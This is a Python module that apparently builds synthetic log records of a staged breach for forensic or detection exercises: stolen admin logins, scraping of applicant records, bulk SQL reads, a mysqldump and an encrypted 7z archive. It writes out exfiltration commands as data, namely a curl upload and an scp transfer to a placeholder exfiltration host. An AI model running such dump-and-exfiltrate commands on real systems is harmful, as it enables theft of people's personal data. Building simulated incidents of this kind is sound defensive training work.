"""The intrusion of November 2024: stolen admin login from abroad, scraping, bulk reads, dump, exfiltration.

Local time, night of 19 → 20 November 2024 (every step is an incident of the ground truth).
"""

from __future__ import annotations

from datetime import date, datetime

from . import infra
from .clock import BREACH_DAY, ZONE, local_ts
from .database import on_archive, session
from .population import RECORD_ID_BASE
from .records import DbStatement, Login, Process, Record, WebRequest
from .world import World

LOGIN = "breach-admin-login-abroad"
ENUMERATION = "breach-web-enumeration"
ENUMERATION_ECHO = "breach-enumeration-db-echo"
EXPORT = "breach-web-export"
BULK_READ = "breach-db-bulk-read"
DUMP_SESSION = "breach-db-dump-session"
HOST_DUMP = "breach-host-dump"
ARCHIVE_UPLOAD = "breach-host-archive-upload"
PAGES = 40  # the attacker pages through the archive: 40 statements in a few minutes
EXPORT_BYTES = 14_680_064  # 14 MiB, over the 10 MiB large-export threshold
WORK = "/tmp/.cache"


def breach_events(world: World) -> list[Record]:
    """Every event of the intrusion, in time order."""
    rng = world.rng("breach")
    day = BREACH_DAY
    applicants = world.population.applicants
    out: list[Record] = []
    t = local_ts(day, 23 * 3600 + 37 * 60 + 40)
    for offset, ok in ((0, False), (15, False), (30, True)):  # two typos, then the stolen password works
        out.append(Login(t + offset, infra.STOLEN_ACCOUNT, infra.ATTACKER_IP, infra.ATTACKER_COUNTRY, ok, tag=LOGIN))
    t += 200
    for i in range(min(applicants, max(60, round(len(world.population.employees) * 0.4)))):
        record = RECORD_ID_BASE + i  # walking the record ids one after another
        out.append(WebRequest(t, infra.ATTACKER_IP, "GET", f"/area-riservata/candidati/{record}", 200,
                              9_000 + rng.randrange(2_000), infra.SCRAPER_AGENT, tag=ENUMERATION))
        out += on_archive(DbStatement(t, infra.APP_ACCOUNT, infra.WEB_APP_IP, infra.ARCHIVE_SCHEMA,
                                      f"SELECT id, nome, cognome, esito FROM candidati WHERE id = {record}",
                                      connection=7, rows=1, program="portale-app", tag=ENUMERATION_ECHO))
        t += rng.randint(1, 2)
    t += 300
    out.append(WebRequest(t, infra.ATTACKER_IP, "GET", "/area-riservata/export/candidati.csv", 200, EXPORT_BYTES,
                          infra.BROWSERS[0], tag=EXPORT))
    t += 600
    page = -(-applicants // PAGES)
    queries: list[tuple[str, int | None]] = [("SHOW TABLES", 3), ("SELECT COUNT(*) FROM candidati", 1)]
    queries += [(f"SELECT id, nome, cognome, email, telefono FROM candidati ORDER BY id LIMIT {page} OFFSET {k * page}",
                 min(page, applicants - k * page)) for k in range(PAGES)]
    queries += [("SELECT * FROM candidati", applicants), ("SELECT * FROM recapiti_candidati", applicants)]
    bulk = session(t, infra.STOLEN_ACCOUNT, infra.WEB_APP_IP, infra.ARCHIVE_SCHEMA, 4711, queries, "mysql", BULK_READ,
                   gap=6)
    outfile = DbStatement(bulk[-2].at + 4, infra.STOLEN_ACCOUNT, infra.WEB_APP_IP, infra.ARCHIVE_SCHEMA,
                          "SELECT * FROM candidati INTO OUTFILE '/tmp/.c.csv'", connection=4711, retcode=1290,
                          rows=0, program="mysql", tag=BULK_READ)  # refused: secure_file_priv
    bulk[-1].at = outfile.at + 5  # the session ends after the OUTFILE attempt
    out += bulk[:-1] + on_archive(outfile) + [bulk[-1]]
    t = bulk[-1].at
    out += _host(world, t + 600)
    out.sort(key=lambda r: r.at)
    return out


def _host(world: World, t: int) -> list[Record]:
    """On db01 with a shell: dump the archive, pack it, send it out twice."""
    applicants = world.population.applicants
    tables = " ".join(infra.ARCHIVE_TABLES)
    user, host = infra.ATTACKER_SHELL_USER, infra.DB_HOST
    out: list[Record] = [Process(
        t, host, user, "mysqldump", "/usr/bin/mysqldump",
        f"mysqldump -h 127.0.0.1 -u {infra.STOLEN_ACCOUNT} -p --single-transaction {infra.ARCHIVE_SCHEMA} {tables} "
        f"--result-file={WORK}/cz22.sql", "bash", tag=HOST_DUMP)]
    out += session(t + 1, infra.STOLEN_ACCOUNT, "127.0.0.1", infra.ARCHIVE_SCHEMA, 4712,
                   [(f"SELECT /*!40001 SQL_NO_CACHE */ * FROM `{name}`", applicants) for name in infra.ARCHIVE_TABLES],
                   "mysqldump", DUMP_SESSION, gap=20)
    out += [
        Process(t + 660, host, user, "7z", "/usr/bin/7z", f"7z a -p -mhe=on {WORK}/cz22.7z {WORK}/cz22.sql", "bash",
                tag=ARCHIVE_UPLOAD),
        Process(t + 1200, host, user, "curl", "/usr/bin/curl",
                f"curl -s -k -T {WORK}/cz22.7z https://{infra.EXFIL_HOST}/u/cz22.7z", "bash", tag=ARCHIVE_UPLOAD),
        Process(t + 1450, host, user, "scp", "/usr/bin/scp",
                f"scp -P 2222 {WORK}/cz22.7z up@{infra.EXFIL_HOST}:/srv/in/", "bash", tag=ARCHIVE_UPLOAD),
    ]
    return out


class Breach:
    """The breach's events, computed once and handed out by local day."""

    def __init__(self, world: World):
        self.events = breach_events(world)

    def day(self, day: date) -> list[Record]:
        return [r for r in self.events if datetime.fromtimestamp(r.at, ZONE).date() == day]
